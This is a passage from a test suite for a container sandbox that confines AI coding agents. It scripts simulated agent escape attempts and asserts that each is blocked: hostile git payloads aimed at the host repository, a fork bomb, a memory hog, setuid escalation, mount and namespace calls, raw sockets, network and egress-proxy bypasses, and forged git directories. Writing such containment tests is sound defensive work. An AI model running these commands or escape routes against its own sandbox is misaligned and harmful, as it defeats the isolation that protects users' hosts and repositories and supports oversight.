  c=$(git commit-tree "$(git write-tree)" -p HEAD -m "agent: a gitlink") && git update-ref HEAD "$c" && echo "attempt gitlink: committed" || echo "attempt gitlink: failed"
echo done:gitlink`,
      ),
    ]);
    assertRan(out, 'working-tree');
    assertRan(nested.out, 'gitlink');
    assert.match(attemptLine(nested.out, 'gitlink'), /committed/);
    assert.match(attemptLine(out, 'links'), /committed/);
    const afterAgent = differences(before, await userState(repo));
    for (const [name] of attempts) {
      const line = attemptLine(out, name);
      t.record(name, afterAgent.length === 0, `${line.replace(`attempt ${name}: `, '')}; host ${afterAgent.length ? afterAgent.join(', ') : 'unchanged'}`);
    }

    // Every host-side operation that reads a sandbox without taking its work, on each sandbox in turn.
    let last = await userState(repo);
    for (const [sandbox, attempt] of [
      ['tree', 'links to the user files, committed, then ls/diff/stop/rm'],
      ['gitlink', 'a gitlink whose .git names the host .git, then ls/diff/stop/rm'],
    ]) {
      const changedBy: string[] = [];
      for (const args of [['ls', '--json'], ['diff', sandbox], ['diff', sandbox, '--stat'], ['stop', sandbox], ['rm', sandbox], ['rm', '--force', sandbox]]) {
        await cli(args, { cwd: repo });
        const now = await userState(repo);
        const changed = differences(last, now);
        if (changed.length) changedBy.push(`agent-sandbox ${args.join(' ')} changed ${changed.join(', ')}${statChanges(last, now)}`);
        last = now;
      }
      t.record(attempt, changedBy.length === 0, changedBy.length ? changedBy.join('; ') : 'user files, index, HEAD, branches, tags unchanged');
    }
    t.assertAllBlocked();
  });

  test("4. the host repository's .git: nothing the agent writes is ever run on the host, and no branch or tag moves", async () => {
    const t = tally('4. host .git');
    const id = randomBytes(6).toString('hex');
    const M = path.join('/tmp', `agent-sandboxes-marker-${id}`);
    const markers = async () => (await fs.readdir('/tmp')).filter((f) => f.startsWith(path.basename(M))).map((f) => f.slice(path.basename(M).length + 1));
    const repo = await makeEscapeRepo({ engineer: SLEEPER }, { 'README.md': "the user's readme\n" });
    git(repo, 'config', 'user.name', 'The User');
    git(repo, 'config', 'user.email', 'user@example.invalid');
    git(repo, 'tag', 'v1');
    git(repo, 'tag', '-a', 'v2', '-m', 'a release');
    // The user works on a branch of their own: `main` is "another branch", which nothing may move.
    git(repo, 'checkout', '-q', '-b', 'work');
    const refs = () => git(repo, 'for-each-ref', '--format=%(refname) %(objectname)', 'refs/heads/main', 'refs/tags');
    const refsBefore = refs();
    const gitBefore = await hostGitFiles(repo);
    // Each payload, when run, appends the uid it ran as to its marker; after each step the markers are read and
    // removed, so that every step that runs a payload is named.
    const ranDuring = new Map<string, string[]>();
    const ranAs = new Map<string, Set<string>>();
    const opLog: string[] = [];
    const noteMarkers = async (during: string) => {
      for (const m of await markers()) {
        const uids = (await fs.readFile(`${M}-${m}`, 'utf8').catch(() => '')).split('\n').filter(Boolean);
        await fs.rm(`${M}-${m}`, { force: true });
        ranDuring.set(m, [...(ranDuring.get(m) ?? []), during]);
        for (const uid of uids) ranAs.set(m, (ranAs.get(m) ?? new Set()).add(uid));
      }
    };
    try {
      await Promise.all([up(repo, 'sq', 'engineer'), up(repo, 'mg', 'engineer')]);
      const [sq, mg] = await Promise.all([asAgent(repo, 'sq', hostileGitScript(M)), asAgent(repo, 'mg', hostileGitScript(M))]);
      for (const { out } of [sq, mg]) {
        assertRan(out, 'host-git');
        for (const attempt of ['direct', 'own-config', 'nested', 'loose-nested', 'commit', 'update-ref-main', 'branch-main', 'tag-v1', 'tag-new']) attemptLine(out, attempt);
        assert.match(attemptLine(out, 'nested'), /made/, 'the nested repository was made');
        assert.match(attemptLine(out, 'commit'), /made/, "the agent's payload commit was made");
      }
      // The agent cannot write the marker's host path itself (it lands in the container's own /tmp).
      assert.match(attemptLine(sq.out, 'direct'), /in the container's view/);
      await noteMarkers("the agent's own run");

      const ops: Array<[string, () => Promise<{ code: number; out: string }>]> = [];
      const sandbox = (...args: string[]) => ops.push([`agent-sandbox ${args.join(' ')}`, async () => cli(args, { cwd: repo }).then((r) => ({ code: r.code, out: r.stdout + r.stderr }))]);
      const user = (...args: string[]) => ops.push([`git ${args.join(' ')}`, () => userGit(repo, ...args)]);
      sandbox('ls');
      sandbox('ls', '--json');
      // What the VS Code view calls to list a sandbox's changed files, whenever the worktree changes.
      ops.push([
        'Sandboxes.changedFiles (the VS Code view)',
        async () => ({ code: 0, out: (await (await Sandboxes.open(repo)).changedFiles('mg')).map((f) => f.path).join('\n') }),
      ]);
      sandbox('diff', 'mg');
      sandbox('diff', 'sq', '--stat');
      sandbox('sync', 'mg', '--mode', 'merge');
      user('status');
      user('diff');
      user('log', '-3', '--stat');
      user('diff', 'HEAD~1', '--stat');
      user('commit', '--allow-empty', '-q', '-m', 'the user commits after the merge');
      sandbox('sync', 'sq', '--mode', 'squash');
      user('status');
      user('diff');
      user('diff', 'HEAD');
      user('log', '-p', '-2');
      user('add', '-A');
      user('commit', '-q', '-m', 'the user commits the squashed work');
      sandbox('stop', 'sq');
      sandbox('stop', 'mg');
      sandbox('rm', 'sq');
      sandbox('rm', '--force', 'sq');
      sandbox('rm', '--force', 'mg');
      const results = new Map<string, number>();
      for (const [name, op] of ops) {
        const result = await op();
        results.set(name, result.code);
        opLog.push(`${name} -> ${result.code}`);
        await noteMarkers(name);
      }
      // The syncs really brought the payloads into the user's branch, so the user's git met them.
      assert.equal(results.get('agent-sandbox sync mg --mode merge'), 0, opLog.join('\n'));
      assert.equal(results.get('agent-sandbox sync sq --mode squash'), 0, opLog.join('\n'));
      assert.match(git(repo, 'ls-tree', '-r', 'HEAD', '--', 'mg', 'sq'), /160000 commit [0-9a-f]+\tmg\/sub/);
      assert.match(git(repo, 'ls-tree', '-r', 'HEAD', '--', 'sq'), /sq\/\.gitattributes/);
    } finally {
      await noteMarkers('the end of the test');
      for (const m of await markers()) await fs.rm(`${M}-${m}`, { force: true });
    }
    for (const [payload, attempt] of HOSTILE_PAYLOADS) {
      const during = ranDuring.get(payload);
      const uids = [...(ranAs.get(payload) ?? [])].join(', ');
      t.record(attempt, during === undefined, during ? `RAN ON THE HOST as uid ${uids} during: ${during.join(', ')}` : 'marker never appeared');
    }
    const unknown = [...ranDuring.keys()].filter((m) => !HOSTILE_PAYLOADS.some(([p]) => p === m));
    assert.deepEqual(unknown, [], 'markers of no known payload');
    const gitAfter = await hostGitFiles(repo);
    const hooksChanged = differences(gitBefore, gitAfter).filter((d) => d.startsWith('hooks/'));
    t.record('write host .git/hooks (8 paths, mountinfo host path too)', hooksChanged.length === 0, hooksChanged.join(', ') || 'byte-identical');
    t.record('write host .git/config (8 paths)', gitBefore.get('config') === gitAfter.get('config'), gitBefore.get('config') === gitAfter.get('config') ? 'byte-identical' : 'CHANGED');
    const refsAfter = refs();
    t.record('update-ref / branch -f main, push to every path in sight', refsAfter.split('\n')[0] === refsBefore.split('\n')[0], refsAfter.split('\n')[0]);
    t.record('tag -f v1, tag a new one, push tags', refsAfter === refsBefore, refsAfter === refsBefore ? 'v1, v2 unchanged, no new tag' : refsAfter);
    assert.equal(git(repo, 'symbolic-ref', 'HEAD'), 'refs/heads/work');
    console.log(`host operations run in test 4:\n  ${opLog.join('\n  ')}`);
    t.assertAllBlocked();
  });

  test('5. fork bomb: held at its pids limit, while another sandbox and the host still start processes', async (t) => {
    if (!needsProbe(t, '5. fork bomb')) return;
    const rowsOf = tally('5. fork bomb');
    const limit = 64;
    const repo = await makeEscapeRepo({
      // The shell's classic bomb, and the probe's, which never lets go (the shell's dies out under a limit).
      bomb: { command: 'echo ran:fork-bomb; ( exec 2>/dev/null; b() { b | b & }; b ) & probe forkbomb 2>/dev/null & exec sleep 600', pids: limit },
      worker: { command: 'echo ran:worker; n=0; while [ $n -lt 200 ]; do /bin/true; n=$((n+1)); done; echo "worker-done $n"; echo done:worker' },
    });
    await up(repo, 'bomb', 'bomb');
    const bomb = docker.getContainer((await listed(repo, 'bomb')).containerId);
    // one-shot: a single sample, without Docker's second one a second later for CPU usage.
    const pids = async () => ((await bomb.stats({ stream: false, 'one-shot': true } as { stream: false })) as { pids_stats?: { current?: number } }).pids_stats?.current ?? -1;
    await waitFor('the bomb to reach its limit', async () => ((await pids()) >= limit - 2 ? true : undefined), 30_000);
    // Sampled all along while B runs its job and the host starts processes.
    const samples: number[] = [];
    let sampling = true;
    const sampler = (async () => {
      const until = Date.now() + 5000;
      while (sampling || Date.now() < until) {
        samples.push(await pids());
        await new Promise((r) => setTimeout(r, 100));
      }
    })();
    const started = Date.now();
    const worker = await cli(['up', 'worker', '--agent', 'worker', '--wait', '--follow'], { cwd: repo, timeoutMs: 120_000 });
    const workerSeconds = (Date.now() - started) / 1000;
    const host = execFileSync('sh', ['-c', 'n=0; while [ $n -lt 50 ]; do /bin/true; n=$((n+1)); done; echo "host-done $n"'], { encoding: 'utf8', timeout: 30_000 });
    sampling = false;
    await sampler;
    const logs = (await cliOk(['logs', 'bomb'], { cwd: repo })).stdout;
    assert.match(logs, /^ran:fork-bomb$/m, logs);
    assert.match(logs, /^probe forkbomb ran$/m, logs);
    assert.equal((await bomb.inspect()).HostConfig.PidsLimit, limit);
    const max = Math.max(...samples);
    assert.ok(samples.length >= 5 && samples.every((n) => n > 0), `the engine's stats gave no process counts: ${samples.join(', ')}`);
    assert.ok(max >= limit - 2, `the bomb really forked up to its limit (max seen ${max})`);
    rowsOf.record(`fork bomb: its process count stays at or under pids = ${limit}`, max <= limit, `${samples.length} samples of the engine's stats, max ${max}`);
    rowsOf.record('sandbox B completes a small job alongside', worker.code === 0 && /^worker-done 200$/m.test(worker.stdout), `exit ${worker.code} in ${workerSeconds.toFixed(1)} s (up included): ${/^worker-done.*$/m.exec(worker.stdout)?.[0] ?? 'no worker-done'}`);
    rowsOf.record('the host still starts processes', host.trim() === 'host-done 50', host.trim());
    const removed = Date.now();
    await cliOk(['rm', '--force', 'bomb'], { cwd: repo });
    assert.ok(Date.now() - removed < 60_000);
    rowsOf.assertAllBlocked();
  });

  test('6. memory hog: killed at its 64m limit, while a sandbox alongside is unharmed', async () => {
    const t = tally('6. memory hog');
    const repo = await makeEscapeRepo({
      hog: {
        command:
          'echo ran:memory-hog; head -c 1073741824 /dev/zero | tail; s=$?; echo "hog-exit=$s"; ' +
          // The container's own memory cgroup (cgroup v1), as the kernel saw it: OOM kills, the peak, the limit.
          'echo "== cgroup"; cat /sys/fs/cgroup/memory/memory.oom_control /sys/fs/cgroup/memory/memory.max_usage_in_bytes /sys/fs/cgroup/memory/memory.limit_in_bytes; exit $s',
        memory: '64m',
      },
      bystander: { command: 'echo ran:bystander; sleep 8; echo "bystander-alive $(seq 1 1000 | wc -l)"', memory: '64m' },
    });
    await up(repo, 'bystander', 'bystander');
    const hog = await cli(['up', 'hog', '--agent', 'hog', '--wait', '--follow'], { cwd: repo, timeoutMs: 120_000 });
    assert.match(hog.stdout, /^ran:memory-hog$/m, hog.stdout + hog.stderr);
    const hogInfo = await listed(repo, 'hog');
    const bystanderLogs = await cliOk(['logs', 'bystander', '--follow'], { cwd: repo, timeoutMs: 60_000 });
    const bystander = await listed(repo, 'bystander');
    const inspected = await docker.getContainer(hogInfo.containerId).inspect();
    assert.equal(inspected.HostConfig.Memory, 64 * 1024 * 1024);
    // tail, holding the whole gigabyte, is what the kernel's OOM killer picks in the container's cgroup.
    const cgroup = section(hog.stdout, 'cgroup');
    const oomKills = Number(/^oom_kill (\d+)$/m.exec(cgroup)?.[1]);
    const [peak, limit] = cgroup.split('\n').filter((l) => /^\d+$/.test(l)).map(Number);
    assert.equal(limit, 64 * 1024 * 1024, cgroup);
    // Docker flags any OOM kill in the container; Podman 4.3 only one of the container's main process (here the
    // shell survived tail's kill), so its OOMKilled stays false: the kernel's own count says it on both.
    assert.equal(hogInfo.oomKilled === true, (await engineKind()) === 'docker', `OOMKilled on ${await engineKind()}: ${String(hogInfo.oomKilled)}`);
    const killed = hog.code === 137 && /^hog-exit=137$/m.test(hog.stdout) && oomKills >= 1 && peak <= limit;
    t.record(
      'allocate 1 GiB under memory = "64m"',
      killed,
      `exit ${hog.code}, ${hog.stdout.match(/hog-exit=\d+/)?.[0] ?? 'no hog-exit'}, kernel oom_kill ${oomKills}, peak ${peak} of ${limit} bytes, engine's OOMKilled ${String(hogInfo.oomKilled ?? false)}`,
    );
    t.record('a sandbox alongside is unharmed', bystander.exitCode === 0 && !bystander.oomKilled && /^bystander-alive 1000$/m.test(bystanderLogs.stdout), `exit ${bystander.exitCode}, ${bystanderLogs.stdout.trim().split('\n').pop()}`);
    t.assertAllBlocked();
  });

  test('7. setuid: a setuid-root binary leaves the agent non-root; the same image without no-new-privileges escalates', async (t) => {
    if (!needsProbe(t, '7. setuid')) return;
    const rowsOf = tally('7. setuid');
    const repo = await makeEscapeRepo({ engineer: SLEEPER });
    await up(repo, 'suid', 'engineer');
    const { out } = await asAgent(repo, 'suid', 'echo ran:setuid; ls -ln /bin/probe; probe setuid; echo "id-after=$(id -u)"; echo done:setuid');
    assertRan(out, 'setuid');
    // The attempt means something: the probe is setuid and root's.
    assert.match(out, /^-rwsr-xr-x\s+\d+\s+0\s+0\s.*\/bin\/probe$/m, out);
    const uid = Number(/^before uid=(\d+)/m.exec(out)?.[1]);
    assert.ok(uid > 0, out);
    const euidBefore = Number(/^before uid=\d+ euid=(\d+)/m.exec(out)?.[1]);
    const euidAfter = Number(/^after uid=\d+ euid=(\d+)/m.exec(out)?.[1]);
    rowsOf.record('exec a setuid-root binary', euidBefore === uid, `euid ${euidBefore} (uid ${uid})`);
    rowsOf.record('setuid(0) in it', probeResult(out, 'setuid\\(0\\)') !== 'ok' && euidAfter !== 0, `setuid(0)=${probeResult(out, 'setuid\\(0\\)')}, euid after ${euidAfter}`);
    rowsOf.record('id -u afterwards', Number(/^id-after=(\d+)$/m.exec(out)?.[1]) !== 0, `id -u = ${/^id-after=(\d+)$/m.exec(out)?.[1]}`);
    // CONTROL: the same image and user, all capabilities dropped as well, but without no-new-privileges.
    const image = (await listed(repo, 'suid')).image;
    const control = await runRaw({ Image: image, Cmd: ['/bin/probe', 'setuid'], User: `${uid}:${uid}`, HostConfig: { CapDrop: ['ALL'], NetworkMode: 'none' } });
    assert.match(control.out, /^probe setuid ran$/m, control.out);
    assert.match(control.out, new RegExp(`^before uid=${uid} euid=0 `, 'm'), `control: without no-new-privileges the setuid bit must make euid 0:\n${control.out}`);
    rowsOf.assertAllBlocked();
  });

  test('8. mounting a file system: mount, bind mounts, user and mount namespaces all fail', async (t) => {
    if (!needsProbe(t, '8. mount')) return;
    const rowsOf = tally('8. mount');
    const repo = await makeEscapeRepo({ engineer: SLEEPER });
    await up(repo, 'mount', 'engineer');
    const commands = [
      'mount -t tmpfs none /tmp/x',
      'mount --bind /workspace /tmp/x',
      'mount -o remount,rw /run/agent-sandbox/host-objects',
      'umount /workspace/.git',
      'unshare -r -m sh -c "mount -t tmpfs none /tmp/x && echo INNER-MOUNTED"',
      'unshare -n true',
      'unshare -U true',
      'unshare -m true',
      'nsenter -t 1 -m true',
    ];
    const { out } = await asAgent(
      repo,
      'mount',
      `echo ran:mount
mkdir -p /tmp/x
${RUN_FN}
${commands.map((c) => `run '${c}'`).join('\n')}
probe syscalls /tmp/y
echo "== mounts"
grep -E ' /tmp/(x|y) ' /proc/self/mountinfo
echo "== end"
echo done:mount`,
    );
    assertRan(out, 'mount');
    for (const command of commands) {
      const line = attemptLine(out, command);
      const output = line.slice(`attempt [${command}] `.length);
      rowsOf.record(command, rcOf(line) !== 0 && !/INNER-MOUNTED/.test(output), output);
    }
    for (const call of ['mount-tmpfs', 'mount-bind', 'mount-proc', 'unshare-user', 'unshare-mount', 'unshare-net', 'chroot']) {
      const result = probeResult(out, call);
      rowsOf.record(`${call} system call`, result !== 'ok', result);
    }
    const mounts = section(out, 'mounts').trim();
    rowsOf.record('no new mount at /tmp/x or /tmp/y', mounts === '', mounts || 'none in /proc/self/mountinfo');
    rowsOf.assertAllBlocked();
  });

  test('9. capabilities: none effective or bounding, no new privileges; chown, mknod and raw sockets fail', async (t) => {
    if (!needsProbe(t, '9. capabilities')) return;
    const rowsOf = tally('9. capabilities');
    const kind = await engineKind();
    const repo = await makeEscapeRepo({ engineer: SLEEPER });
    await up(repo, 'caps', 'engineer');
    const commands = [
      'chown 0:0 /workspace/.probe-chown',
      'chown 65534 /workspace/.probe-chown',
      'chgrp 0 /workspace/.probe-chown',
      'mknod /tmp/null-dev c 1 3',
      'mknod /tmp/disk b 8 0',
      'setpriv --inh-caps +sys_admin true',
      // busybox's setpriv goes on when it cannot raise an ambient capability: succeeds only if one was raised.
      'setpriv --ambient-caps +net_raw sh -c "grep -q ^CapAmb:.*[1-9a-f] /proc/self/status"',
      'chroot / true',
    ];
    const { out } = await asAgent(
      repo,
      'caps',
      `echo ran:caps
grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status
touch /workspace/.probe-chown
${RUN_FN}
${commands.map((c) => `run '${c}'`).join('\n')}
run 'ping -c 1 -W 2 127.0.0.1'
probe raw
probe syscalls /tmp/z
echo done:caps`,
    );
    assertRan(out, 'caps');
    const status = (field: string) => {
      const match = new RegExp(`^${field}:\\s+(\\S+)$`, 'm').exec(out);
      assert.ok(match, `no ${field} in /proc/self/status:\n${out}`);
      return match[1];
    };
    for (const field of ['CapEff', 'CapPrm', 'CapBnd', 'CapInh', 'CapAmb']) rowsOf.record(`${field} is empty`, /^0+$/.test(status(field)), `${field} ${status(field)}`);
    rowsOf.record('NoNewPrivs is set', status('NoNewPrivs') === '1', `NoNewPrivs ${status('NoNewPrivs')}`);
    rowsOf.record('a seccomp filter is on (the engine default)', status('Seccomp') === '2', `Seccomp ${status('Seccomp')}`);
    for (const command of commands) {
      const line = attemptLine(out, command);
      rowsOf.record(command, rcOf(line) !== 0, line.replace(`attempt [${command}] `, ''));
    }
    for (const call of ['mknod-char', 'chown-root']) rowsOf.record(`${call} system call`, probeResult(out, call) !== 'ok', probeResult(out, call));
    rowsOf.record('raw IP socket (CAP_NET_RAW)', probeResult(out, 'raw-inet') !== 'ok', probeResult(out, 'raw-inet'));
    rowsOf.record('packet socket (CAP_NET_RAW)', probeResult(out, 'raw-packet') !== 'ok', probeResult(out, 'raw-packet'));
    // ping: busybox's asks for a raw socket (refused) and falls back to an ICMP datagram socket, which needs no
    // capability where net.ipv4.ping_group_range allows the agent's group: Docker allows every group, Podman
    // group 0 only. On Docker its echo request goes out but busybox discards the reply (the kernel rewrites the
    // ICMP id on datagram sockets), so it fails there too, though not for want of a capability.
    const ping = attemptLine(out, 'ping -c 1 -W 2 127.0.0.1');
    const icmp = probeResult(out, 'icmp-dgram');
    assert.equal(icmp, kind === 'docker' ? 'ok' : 'EACCES', `ICMP datagram sockets on ${kind}`);
    rowsOf.record('ping 127.0.0.1 with no raw socket', probeResult(out, 'raw-inet') !== 'ok', `${ping.replace(/^attempt \[[^\]]+\] /, '')}; ICMP datagram socket ${icmp} (ping_group_range), raw socket ${probeResult(out, 'raw-inet')}`);
    rowsOf.assertAllBlocked();
  });

  test('10. network "none": no way to the host, its bridge or another container; a "nat" sandbox reaches the test host', async (t) => {
    if (!needsProbe(t, '10. network none')) return;
    const rowsOf = tally('10. network none');
    const server = http.createServer((_req, res) => res.end('host-server-ok\n'));
    await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
    const hostPort = (server.address() as AddressInfo).port;
    try {
      const repo = await makeEscapeRepo({ offline: SLEEPER, online: { ...SLEEPER, network: 'nat' } });
      await up(repo, 'offline', 'offline');
      const image = (await listed(repo, 'offline')).image;
      // The test host: a container from the same image on the engine's default bridge, serving HTTP.
      const testHost = await docker.createContainer({
        Image: image,
        Cmd: ['sh', '-c', 'mkdir -p /tmp/www && echo testhost-ok > /tmp/www/index.html && exec httpd -f -p 8080 -h /tmp/www'],
        User: '1000:1000',
        Labels: { [CONTROL_LABEL]: RUN_ID },
        // Ulimits as Agent Sandboxes sets them: Podman's own defaults can exceed this machine's hard limits.
        HostConfig: { NetworkMode: 'bridge', CapDrop: ['ALL'], SecurityOpt: ['no-new-privileges'], Ulimits: sandboxUlimits() },
      });
      await testHost.start();
      const settings = (await testHost.inspect()).NetworkSettings as { IPAddress?: string; Gateway?: string; Networks?: Record<string, { IPAddress?: string; Gateway?: string }> };
      const network = Object.values(settings.Networks ?? {})[0] ?? {};
      const testHostIp = settings.IPAddress || network.IPAddress;
      const gateway = settings.Gateway || network.Gateway;
      assert.ok(testHostIp && gateway, `the test host has no address on the bridge: ${JSON.stringify(settings)}`);
      // The host's own view: the server and the test host answer.
      await waitFor('the test host to serve', () => httpGet(`http://${testHostIp}:8080/`).then((body) => (body.includes('testhost-ok') ? true : undefined), () => undefined), 30_000);
      assert.match(await httpGet(`http://127.0.0.1:${hostPort}/`), /host-server-ok/);

      // Every IPv4 address of the host: Node's list leaves out interfaces without a carrier (an idle docker0).
      const hostAddresses = Object.values(os.networkInterfaces())
        .flat()
        .filter((a): a is os.NetworkInterfaceInfo => Boolean(a) && a!.family === 'IPv4')
        .map((a) => a.address);
      try {
        for (const match of execFileSync('ip', ['-4', '-o', 'addr', 'show'], { encoding: 'utf8' }).matchAll(/\sinet (\d+\.\d+\.\d+\.\d+)\//g)) hostAddresses.push(match[1]);
      } catch {
        // no iproute2: Node's list alone
      }
      const targets = [...new Set([gateway, ...hostAddresses])].map((ip) => [`${ip}:${hostPort}`, ip === gateway ? "the host's bridge gateway" : ip === '127.0.0.1' ? 'its own 127.0.0.1' : 'a host address']);
      targets.push([`${testHostIp}:8080`, 'the test host on the bridge']);
      const probes = targets.map(([target]) => `probe tcp ${target.replace(':', ' ')} 3000`).join('\n');
      const { out } = await asAgent(
        repo,
        'offline',
        `echo ran:network-none
ls /sys/class/net
${probes}
wget -q -T 3 -O - http://${testHostIp}:8080/ 2>&1 | head -n 2; echo "wget rc=$?"
echo done:network-none`,
      );
      assertRan(out, 'network-none');
      assert.equal(out.match(/^probe tcp ran$/gm)?.length, targets.length, out);
      for (const [target, what] of targets) {
        const line = new RegExp(`^tcp ${target.replace(/[.]/g, '\\.')} (\\S+)`, 'm').exec(out);
        assert.ok(line, `no probe of ${target}:\n${out}`);
        rowsOf.record(`${what} ${target}`, line[1] !== 'open', line[1]);
      }
      rowsOf.record(`wget the test host ${testHostIp}:8080`, !out.includes('testhost-ok'), out.includes('testhost-ok') ? 'got its page' : (/^wget: .*/m.exec(out)?.[0] ?? 'no page'));
      // CONTROL: the same probe from a "nat" sandbox reaches the test host.
      await up(repo, 'online', 'online');
      const control = await asAgent(repo, 'online', `probe tcp ${testHostIp} 8080 3000`);
      assert.match(control.out, new RegExp(`^tcp ${testHostIp.replace(/[.]/g, '\\.')}:8080 open\\nreply: HTTP/1\\.[01] 200`, 'm'), `control: a nat sandbox reaches the test host:\n${control.out}`);
    } finally {
      server.close();
      for (const c of await controlContainers()) await docker.getContainer(c.Id).remove({ force: true }).catch(() => undefined);
    }
    rowsOf.assertAllBlocked();
  });
  test('11. egress allowlist: only the names allowed, only through the proxy; no IP, other port, name, direct route or DNS; each denial logged', async () => {
    const rowsOf = tally('11. egress allowlist');
    const repo = await makeRepo(
      tomlWith('sleep 300', 'allow = ["allowed.test", "*.wild.test"]\n').replace('network = "none"', 'network = "nat"'),
    );
    // The test hosts: two web servers this test starts on the engine's own network, answering on 80, 443 and 8080.
    const image = await builtImage(repo);
    const hosts = await Promise.all(['allowed', 'denied'].map((name) => startWebHost(image, name)));
    const [allowedIp, deniedIp] = hosts.map((h) => h.ip);
    const hostServer = await startHostServer();
    const env = { AGENT_SANDBOX_EGRESS_HOSTS: `allowed.test=${allowedIp},api.wild.test=${allowedIp},wild.test=${allowedIp},denied.test=${deniedIp}` };
    try {
      await cliOk(['up', 'egress', '--agent', 'engineer'], { cwd: repo, env });
      const [listed] = JSON.parse((await cliOk(['ls', '--json'], { cwd: repo })).stdout);
      assert.equal(listed.network, 'allowlist');
      assert.deepEqual(listed.allow, ['allowed.test', '*.wild.test']);

      const run = async (script: string) => (await cli(['exec', 'egress', '--', 'sh', '-c', script], { cwd: repo })).stdout;
      const viaProxy = (request: string) => run(`printf '${request}' | timeout 5 nc 127.0.0.1 3128; echo "[ran]"`);
      const connect = (target: string) => viaProxy(`CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n`);

      // What is allowed works, by both HTTP and a CONNECT tunnel: the test hosts are up and the path is open.
      assert.match(await viaProxy('GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n'), /HELLO-allowed/);
      assert.match(await connect('allowed.test:443'), /200 Connection Established[\s\S]*HELLO-allowed/);
      assert.match(await connect('api.wild.test:443'), /HELLO-allowed/);

      // Everything else is refused.
      const refused = async (what: string, output: Promise<string>) => {
        const text = await output;
        assert.match(text, /\[ran\]/, what);
        rowsOf.record(what, !/HELLO-/.test(text), /^HTTP\/1\.1 \d+ .*/m.exec(text)?.[0] ?? (text.replace('[ran]', '').trim() || 'no answer'));
      };
      await refused('a name not on the list', connect('denied.test:443'));
      await refused('a name not on the list, plain HTTP', viaProxy('GET http://denied.test/ HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'));
      await refused('the bare domain of a wildcard', connect('wild.test:443'));
      await refused('an allowed host by IP', connect(`${allowedIp}:443`));
      await refused('an allowed host on another port', connect('allowed.test:8080'));
      await refused('an allowed host directly, past the proxy', run(`printf 'GET / HTTP/1.0\\r\\n\\r\\n' | timeout 5 nc ${allowedIp} 80; echo "[ran]"`));
      await refused('the host machine directly', run(`for ip in ${hostServer.addresses.join(' ')}; do printf 'GET / HTTP/1.0\\r\\n\\r\\n' | timeout 3 nc $ip ${hostServer.port}; done; echo "[ran]"`));
      // No interface but loopback, no DNS server to tunnel through.
      const interfaces = (await run('ls /sys/class/net')).trim();
      rowsOf.record('an interface other than loopback', interfaces === 'lo', interfaces);
      const lookup = await run('nslookup allowed.test 2>&1; echo "[ran]"');
      assert.match(lookup, /\[ran\]/);
      rowsOf.record('DNS: resolving a name itself (a tunnel)', !lookup.includes(allowedIp), lookup.split('\n').find((l) => /timed out|can't|no servers/i.test(l)) ?? lookup.trim());
      // The proxy is out of the agent's reach: another container, whose processes it cannot see.
      const processes = await run('ps -o comm');
      rowsOf.record('seeing the proxy to stop or change it', !/node/.test(processes), 'no proxy process in its pid namespace');

      // Each denial is in the sandbox's output, with the host name.
      const logs = await cliOk(['logs', 'egress'], { cwd: repo });
      assert.match(logs.stderr, /agent-sandbox egress: denied denied\.test:443 \(not on the allowlist\)/);
      assert.match(logs.stderr, /agent-sandbox egress: denied wild\.test:443/);
      assert.match(logs.stderr, new RegExp(`agent-sandbox egress: denied ${allowedIp.replace(/\./g, '\\.')}:443 \\(IP addresses`));
      assert.match(logs.stderr, /agent-sandbox egress: denied allowed\.test:8080 \(port 8080/);

      // It survives a stop and a start; rm takes the proxy, the forwarder and their volume with it.
      await cliOk(['stop', 'egress'], { cwd: repo });
      await cliOk(['start', 'egress'], { cwd: repo });
      assert.match(await connect('allowed.test:443'), /HELLO-allowed/);
      await cliOk(['rm', '--force', 'egress'], { cwd: repo });
      const left = await docker.listContainers({ all: true, filters: { label: [`dev.agent-sandboxes.egress-workspace=${repo}`] } });
      assert.deepEqual(left, []);
      const volumes = (await docker.listVolumes({ filters: { label: [`dev.agent-sandboxes.egress-workspace=${repo}`] } })).Volumes ?? [];
      assert.deepEqual(volumes, []);
    } finally {
      await Promise.all(hosts.map((h) => h.remove()));
      hostServer.close();
    }
    rowsOf.assertAllBlocked();
  });

  test("12. the agent's git directory: alternates to another repository, symlinked refs, a forged object, a forged commit-graph, a FIFO HEAD, HEAD linked to /dev/zero", async () => {
    const t = tally("12. agent's git dir");
    const repo = await makeEscapeRepo({ engineer: SLEEPER }, { 'README.md': "the user's readme\n" });
    git(repo, 'config', 'user.name', 'The User');
    git(repo, 'config', 'user.email', 'user@example.invalid');
    // Another of the user's repositories, beside this one, with a secret in its history and every kind of ref.
    const other = path.join(path.dirname(repo), 'other');
    mkdirSync(other);
    git(other, 'init', '-q', '-b', 'main');
    writeFileSync(path.join(other, 'secret.txt'), `the user's other project: TOP-SECRET-${RUN_ID}\n`);
    git(other, 'add', '-A');
    git(other, 'commit', '-q', '-m', 'secret');
    git(other, 'branch', 'sandbox/gd');
    git(other, 'pack-refs', '--all');
    const secretCommit = git(other, 'rev-parse', 'HEAD');
    // Loose too (git would not write a ref it holds packed at the same value).
    mkdirSync(path.join(other, '.git', 'refs', 'heads', 'sandbox'), { recursive: true });
    writeFileSync(path.join(other, '.git', 'refs', 'heads', 'sandbox', 'gd'), `${secretCommit}\n`);
    writeFileSync(path.join(other, '.git', 'refs', 'heads', 'main'), `${secretCommit}\n`);
    const secretBlob = git(other, 'rev-parse', 'HEAD:secret.txt');
    const O = path.join(other, '.git');
    const has = (id: string) => gitDir12Has(repo, id);
    await Promise.all([up(repo, 'gd', 'engineer'), up(repo, 'ok', 'engineer')]);
    const sandboxes = await Sandboxes.open(repo);
    // A control: an ordinary commit is imported, here and in the sandbox alongside.
    const agentCommit = async (name: string, file: string) => {
      const out = (await asAgent(repo, name, `echo ran:commit; cd /workspace && echo "$RANDOM $$ ${file}" > ${file} && git add ${file} && git commit -q -m ${file} && git rev-parse HEAD; echo done:commit`)).out;
      assertRan(out, 'commit');
      return /^[0-9a-f]{40}$/m.exec(out)![0];
    };
    const control = await agentCommit('gd', 'control.txt');
    await cliOk(['diff', 'gd', '--stat'], { cwd: repo });
    assert.equal(git(repo, 'rev-parse', 'sandbox/gd'), control, "an ordinary commit of the agent's is imported");
    let okTip = await agentCommit('ok', 'ok-0.txt');

